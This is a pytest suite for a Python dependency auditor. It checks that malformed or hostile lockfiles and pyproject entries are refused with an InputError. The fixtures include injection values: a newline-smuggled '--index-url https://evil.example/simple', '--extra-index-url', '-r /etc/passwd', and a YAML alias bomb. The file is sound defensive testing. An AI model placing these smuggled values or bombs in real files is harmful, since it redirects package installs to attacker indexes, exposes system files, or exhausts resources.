"""Hostile input to the readers added for real lockfiles (uv git sources, Pipfile categories,
old Poetry locks, environment.yml pip lists, [tool.uv.sources]): each case is the input that
made the reader raise something other than InputError (exit 4), do unbounded work, or write
an attacker's line into the resolver's requirements file.  Each is now one InputError naming
the file (and line where the reader knows it)."""

from __future__ import annotations

import json
import time

import pytest

from auditor.errors import InputError
from auditor.sources.conda_env import CondaEnvironmentFileSource
from auditor.sources.pipfile_lock import PipfileLockSource
from auditor.sources.poetry_lock import PoetryLockSource
from auditor.sources.pyproject import PyprojectSource, declared_requirements
from auditor.sources.uv_lock import UvLockSource
from tests.builders import collect

UV_HEAD = ('version = 1\nrequires-python = ">=3.8"\n\n[[package]]\nname = "proj"\nversion = "0.1"\n'
           'source = { editable = "." }\ndependencies = [DEP]\n\n')


def _uv(tmp_path, source: str, dep: str = '{ name = "x" }'):
    lock = tmp_path / "uv.lock"
    lock.write_text(UV_HEAD.replace("DEP", dep) + f'[[package]]\nname = "x"\nversion = "1.0"\nsource = {source}\n')
    return UvLockSource(lock, fetch_metadata=False)


def test_uv_lock_git_source_that_urlsplit_refuses_is_an_input_error(tmp_path, lock_config):
    # urlsplit raised ValueError("Invalid IPv6 URL") out of git_url
    source = _uv(tmp_path, '{ git = "https://u:secret@[abc/o/r?rev=v1#abc" }')
    with pytest.raises(InputError, match="git source .* is not a URL") as info:
        collect(source, lock_config)
    assert info.value.line == 11 and "secret" not in str(info.value)


def test_uv_lock_dependency_extra_of_the_wrong_type_is_an_input_error(tmp_path, lock_config):
    # requirement_text joined the extras: TypeError "sequence item 0: expected str instance, int found"
    source = _uv(tmp_path, '{ registry = "https://pypi.org/simple" }', dep='{ name = "x", extra = [1] }')
    with pytest.raises(InputError, match="'extra' must be a list of strings"):
        collect(source, lock_config)


@pytest.mark.parametrize("extras", ["[1, 2]", "[[1]]", '"docs"'])
def test_pipfile_extras_of_the_wrong_type_are_an_input_error(tmp_path, lock_config, extras):
    # [1, 2]: TypeError in requirement_text; [[1]]: unhashable list; "docs": read as extras d, o, c, s
    (tmp_path / "Pipfile.lock").write_text(json.dumps({"_meta": {}, "default": {"a": {"version": "==1.0"}}}))
    (tmp_path / "Pipfile").write_text(f'[packages]\na = {{version = "*", extras = {extras}}}\n')
    with pytest.raises(InputError, match=r"\[packages\] a: 'extras' must be a list of strings") as info:
        collect(PipfileLockSource(tmp_path / "Pipfile.lock", fetch_metadata=False), lock_config)
    assert info.value.file.endswith("Pipfile")


POETRY = ('[[package]]\nname = "a"\nversion = "1"\nGROUPS\n\n'
          '[metadata]\nlock-version = "1.1"\ncontent-hash = "x"\npython-versions = "*"\nMETA\n')


@pytest.mark.parametrize("groups, meta, message", [
    ("", "hashes = [1]", r"\[metadata.hashes\] must be a table"),  # AttributeError: 'list' has no 'get'
    ("", "files = [1]", r"\[metadata.files\] must be a table"),
    ("", "[metadata.hashes]\na = 5", "files or hashes must be an array"),  # TypeError: 'int' is not iterable
])
def test_poetry_lock_metadata_of_the_wrong_shape_is_an_input_error(tmp_path, lock_config, groups, meta, message):
    lock = tmp_path / "poetry.lock"
    lock.write_text(POETRY.replace("GROUPS", groups).replace("META", meta))
    with pytest.raises(InputError, match=message):
        collect(PoetryLockSource(lock, fetch_metadata=False), lock_config)


@pytest.mark.parametrize("groups, kind", [("groups = 5", "runtime"), ('groups = [5, "docs"]', "group:docs")])
def test_poetry_lock_groups_of_the_wrong_type_are_not_a_crash(tmp_path, lock_config, groups, kind):
    # 5: "argument of type 'int' is not iterable"; [5, "docs"]: sorted() compared str and int
    lock = tmp_path / "poetry.lock"
    lock.write_text(POETRY.replace("GROUPS", groups).replace("META", ""))
    inv = collect(PoetryLockSource(lock, fetch_metadata=False), lock_config)
    assert [e.kind for e in inv.root_requires] == [kind]


PYPROJECT = '[project]\nname = "p"\nversion = "1"\ndependencies = ["x"]\n\n[tool.uv.sources]\n'


@pytest.mark.parametrize("source, problem", [
    # a line break in rev/subdirectory wrote an option or an include into the resolver's requirements file
    ('x = { git = "https://github.com/o/x", rev = "v1\\n--index-url https://evil.example/simple" }',
     "contains a control character"),
    ('x = { git = "https://github.com/o/x", subdirectory = "a\\n-r /etc/passwd" }', "contains a control character"),
    ('x = { url = "https://h/x-1.0.tar.gz\\r--extra-index-url https://evil.example" }', "contains a control character"),
    ('x = { path = "a\\u0000b" }', "contains a control character"),  # ValueError: embedded null byte
    ('x = { git = "https://u:secret@github.com/o/x y", tag = "v 1" }', "is not a valid direct reference"),
])
def test_uv_sources_that_are_not_one_requirements_line_are_refused(tmp_path, source, problem):
    path = tmp_path / "pyproject.toml"
    text = PYPROJECT + source + "\n"
    path.write_text(text)
    with pytest.raises(InputError, match=problem) as info:
        declared_requirements(path, text)
    assert info.value.line == 7 and "secret" not in str(info.value)


def test_a_poetry_source_url_spanning_lines_never_reaches_the_resolver(tmp_path, lock_config):
    # poetry_sources' URLs are written as '--extra-index-url URL' lines; a line break added '-r /etc/passwd'
    path = tmp_path / "pyproject.toml"
    path.write_text('[tool.poetry]\nname = "p"\nversion = "1"\n[tool.poetry.dependencies]\nx = "1"\n'
                    '[[tool.poetry.source]]\nname = "s"\nurl = "https://u:secret@h/simple\\n-r /etc/passwd"\n')
    with pytest.raises(InputError, match="spans lines") as info:
        collect(PyprojectSource(path), lock_config)
    assert "secret" not in str(info.value)


ENV = "name: x\ndependencies:\n  - python=3.12\n  - pip:\n"
#: A YAML alias bomb: a7 is 10**8 strings when expanded (PyYAML shares the lists).
BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 8))


@pytest.mark.parametrize("text, message", [
    (ENV + '    - "\\ud800x"\n', "not Unicode text"),  # UnicodeEncodeError writing the line for the parser
    (ENV + "    - {a: 1}\n", "a 'pip:' entry must be a string"),  # was read as the requirement "{'a': 1}"
    (BOMB + "dependencies:\n  - pip:\n    - *a7\n", "a 'pip:' entry must be a string"),  # str() of 10**8 items
    (BOMB + "dependencies:\n  - *a7\n", "a dependency must be a spec string"),  # str(entry)[:40] expanded it first
])
def test_environment_file_entries_of_the_wrong_kind_are_input_errors_at_once(tmp_path, lock_config, text, message):
    path = tmp_path / "environment.yml"
    path.write_text(text)
    started = time.monotonic()
    with pytest.raises(InputError, match=message):
        collect(CondaEnvironmentFileSource(path), lock_config)
    assert time.monotonic() - started < 10  # the bombs took over a minute and gigabytes


def test_environment_file_reads_each_included_requirements_file_once(tmp_path, lock_config, monkeypatch):
    # 2,000 '-r r.txt' entries parsed r.txt 2,000 times (167 s for a 300-line file)
    from auditor.sources import conda_env

    reads = []
    real = conda_env.parse_requirements
    monkeypatch.setattr(conda_env, "parse_requirements", lambda p: reads.append(p) or real(p))
    (tmp_path / "r.txt").write_text("a==1\nb==2\n")
    path = tmp_path / "environment.yml"
    path.write_text(ENV + '    - "-r r.txt"\n' * 20 + '    - "-r ./r.txt"\n')
    inv = collect(CondaEnvironmentFileSource(path), lock_config)
    assert len(reads) == 1
    assert {d.name for d in inv.distributions if d.origin.kind != "conda"} >= {"a", "b"}


@pytest.mark.parametrize("line", ["-r " + "a" * 300, "-c " + "a" * 300])
def test_an_include_the_os_cannot_name_is_an_input_error(tmp_path, lock_config, line):
    # pathlib's is_file() raised OSError "File name too long" out of parse_requirements
    # (found by the fuzz target "environment.yml pip list")
    from auditor.sources.requirement_lines import parse_requirements

    (tmp_path / "requirements.txt").write_text(f"x==1\n{line}\n")
    with pytest.raises(InputError, match="not a usable file name") as info:
        parse_requirements(tmp_path / "requirements.txt")
    assert info.value.line == 2
    if line.startswith("-r"):  # an environment file's pip: list follows -r (and leaves -c to pip)
        path = tmp_path / "environment.yml"
        path.write_text(ENV + f'    - "{line}"\n')
        with pytest.raises(InputError, match="not a usable file name"):
            collect(CondaEnvironmentFileSource(path), lock_config)


BIG = "9" * 5001  # past int()'s 4,300-digit limit: packaging's Version() raises ValueError, not InvalidVersion


def test_a_version_past_the_integer_digit_limit_is_no_crash_in_packaging_helpers():
    from auditor.dist.filenames import InvalidFilename, parse_filename
    from auditor.dist.markers import marker_holds

    assert isinstance(parse_filename(f"x-{BIG}.tar.gz"), InvalidFilename)  # "never raises"
    assert isinstance(parse_filename(f"x-{BIG}-py3-none-any.whl"), InvalidFilename)
    assert marker_holds(f'python_version > "{BIG}"', {"python_version": "3.11"}) is True  # cannot be evaluated


@pytest.mark.parametrize("name, text", [
    ("pylock.toml", f'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "x"\nversion = "{BIG}"\n'),
    ("environment.yml", f"dependencies:\n  - pip:\n    - x=={BIG}\n"),
    ("uv.lock", UV_HEAD.replace("DEP", '{ name = "x" }')
     + f'[[package]]\nname = "x"\nversion = "{BIG}"\nsource = {{ registry = "https://pypi.org/simple" }}\n'
     + f'[[package]]\nname = "x"\nversion = "1.{BIG}"\nsource = {{ registry = "https://pypi.org/simple" }}\n'),
])
def test_a_locked_version_of_thousands_of_digits_is_an_input_error(tmp_path, lock_config, name, text):
    # uv.lock: _newer() compared two forks' versions (ValueError); every lock: PyPIClient.core_metadata's
    # canonicalize_version raised ValueError (exit 4, 'internal error'); environment.yml pip: the same
    from auditor.sources.registry import open_source

    path = tmp_path / name
    path.write_text(text)
    with pytest.raises(InputError, match="a version of 5001 characters is not a version") as info:
        collect(open_source(path), lock_config)
    assert info.value.line is not None


def test_uv_source_path_with_a_lone_surrogate_is_refused(tmp_path):
    # found by the fuzz target "pyproject.toml": resolve() raised UnicodeEncodeError
    path = tmp_path / "pyproject.toml"
    text = PYPROJECT + 'x = { path = "w\ud800" }\n'
    with pytest.raises(InputError, match="control character"):
        declared_requirements(path, text)


@pytest.mark.parametrize("entry", ['a = {version = "*", sys_platform = "garbage((("}', '"a b" = "*"'])
def test_a_pipfile_entry_that_is_no_requirement_is_an_input_error(tmp_path, lock_config, entry):
    # the root edge was silently dropped: 'a' stood in the audit with nothing requiring it
    (tmp_path / "Pipfile.lock").write_text(json.dumps({"_meta": {}, "default": {"a": {"version": "==1.0"}}}))
    (tmp_path / "Pipfile").write_text(f'[packages]\nb = "*"\n{entry}\n')
    with pytest.raises(InputError, match="not a requirement") as info:
        collect(PipfileLockSource(tmp_path / "Pipfile.lock", fetch_metadata=False), lock_config)
    assert info.value.file.endswith("Pipfile") and info.value.line == 3


def test_workspace_members_are_read_once_within_one_bound_for_all_sources(tmp_path, monkeypatch):
    # 301 'workspace = true' sources x 5,000 '"*"' patterns x 51 matches: each source walked every
    # pattern and read every match again (over 30 s, killed); now one walk of at most 1,000 paths
    from auditor.sources import pyproject

    for i in range(5):
        (tmp_path / f"m{i}").mkdir()
        (tmp_path / f"m{i}" / "pyproject.toml").write_text(f'[project]\nname = "m{i}"\nversion = "1"\n')
    monkeypatch.setattr(pyproject, "MAX_WORKSPACE_MATCHES", 40)
    names = [f"w{i}" for i in range(30)] + ["m3"]
    text = ('[project]\nname = "p"\nversion = "1"\ndependencies = [' + ", ".join(f'"{n}"' for n in names) + ']\n'
            '[tool.uv.sources]\n' + "".join(f"{n} = {{ workspace = true }}\n" for n in names)
            + "[tool.uv.workspace]\nmembers = [" + ", ".join(['"*"'] * 500) + "]\n")
    (tmp_path / "pyproject.toml").write_text(text)
    globs = []
    real = type(tmp_path).glob
    monkeypatch.setattr(type(tmp_path), "glob", lambda self, pattern: globs.append(pattern) or real(self, pattern))
    reqs = declared_requirements(tmp_path / "pyproject.toml", text)
    assert reqs[-1] == f"-e {(tmp_path / 'm3').resolve()}"
    assert len(globs) <= 40


def test_pipfile_lock_lines_come_from_one_pass_over_the_text():
    # LineIndex.find per package scanned every line each time: 8,000 packages took 110 s (now 0.4 s)
    from auditor.sources.lockfile import LineIndex

    text = json.dumps({"default": {"a": {}, "b": {}}, "develop": {"a": {}}}, indent=4)
    lines = LineIndex(text)
    assert [lines.json_key("a"), lines.json_key("b"), lines.json_key("a"), lines.json_key("a")] == [3, 4, 7, None]
